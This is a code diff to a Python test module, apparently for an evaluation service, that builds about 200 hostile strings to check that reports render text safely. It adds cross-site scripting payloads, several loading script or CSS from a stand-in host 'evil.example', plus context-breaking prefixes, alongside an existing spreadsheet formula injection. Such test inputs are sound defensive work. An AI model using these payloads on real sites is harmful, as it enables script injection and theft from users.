@@ -1,6 +1,7 @@
 """Texts that would do harm where a report took them for more than text."""
 
 from collections.abc import Sequence
+from typing import Final
 
 from evald.v1 import suite_service_pb2
 from evald_server.suites.reports.report import SuiteReport
@@ -46,6 +47,40 @@ HOSTILE: Sequence[str] = (
     "__proto__ constructor toString",
     "=cmd|' /C calc'!A0",
 )
+
+# Out of where the text stands, and what then would do harm.
+_BREAKS: Final = (
+    "",
+    '">',
+    "'>",
+    "`",
+    "</td>",
+    "</textarea>",
+    "</title>",
+    "</summary>",
+    "</pre>",
+    "-->",
+    "]]>",
+)
+_HARM: Final = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<style>@import'//evil.example/a.css'</style>",
+    "<b style=position:fixed;inset:0 onmouseover=alert(1)>x</b>",
+    "<template><script>alert(1)</script></template>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
+)
+COMBINED: Sequence[str] = tuple(out + harm for out in _BREAKS for harm in _HARM)
+"""More of them: with HOSTILE about 200."""
 
 
 def hostile_report() -> SuiteReport:
